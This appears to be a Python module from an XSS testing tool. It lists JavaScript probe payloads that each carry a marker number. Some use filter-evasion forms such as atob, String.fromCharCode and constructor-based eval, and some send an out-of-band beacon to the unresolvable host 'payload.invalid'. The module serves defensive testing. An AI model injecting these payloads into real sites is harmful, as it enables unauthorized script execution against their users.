"""The ways in which a payload shows that it runs: each is JavaScript that carries a number."""

from __future__ import annotations

import base64
from collections.abc import Callable

# No name has it (RFC 6761): a request to it shows only that something asked.
ELSEWHERE = "payload.invalid"

Call = Callable[[int], str]


def _encoded(number: int) -> str:
    return base64.b64encode(f"ran({number})".encode()).decode()


def _by_code(number: int) -> str:
    return ",".join(str(ord(sign)) for sign in f"ran({number})")


# `ran` is the function that a watched page has; `alert` opens a dialog; the others ask another host.
CALLS: tuple[Call, ...] = (
    lambda n: f"ran({n})",
    lambda n: f"window.ran({n})",
    lambda n: f"alert({n})",
    lambda n: f"self['ran']({n})",
    lambda n: f"top.ran({n})",
    lambda n: f"ran`{n}`",
    lambda n: f"\\u0072an({n})",
    lambda n: f"eval('r'+'an({n})')",
    lambda n: f"eval(atob('{_encoded(n)}'))",
    lambda n: f"setTimeout('ran({n})')",
    lambda n: f"Function('ran({n})')()",
    lambda n: f"[{n}].map(ran)",
    lambda n: f"(0,ran)({n})",
    lambda n: f"import('data:text/javascript,ran({n})')",
    lambda n: f"fetch('//{ELSEWHERE}/{n}')",
    lambda n: f"new Image().src='//{ELSEWHERE}/{n}'",
    lambda n: f"navigator.sendBeacon('//{ELSEWHERE}/{n}')",
    lambda n: f"location='http://{ELSEWHERE}/{n}'",
    lambda n: f"ran?.({n})",
    lambda n: f"Reflect.apply(ran,0,[{n}])",
    lambda n: f"Set.constructor('ran({n})')()",
    lambda n: f"eval(String.fromCharCode({_by_code(n)}))",
    lambda n: f"queueMicrotask(()=>ran({n}))",
    lambda n: f"confirm({n})",
    lambda n: f"prompt({n})",
    lambda n: f"globalThis[/ran/.source]({n})",
    lambda n: f"parent.ran({n})",
    lambda n: f"document.defaultView.ran({n})",
)
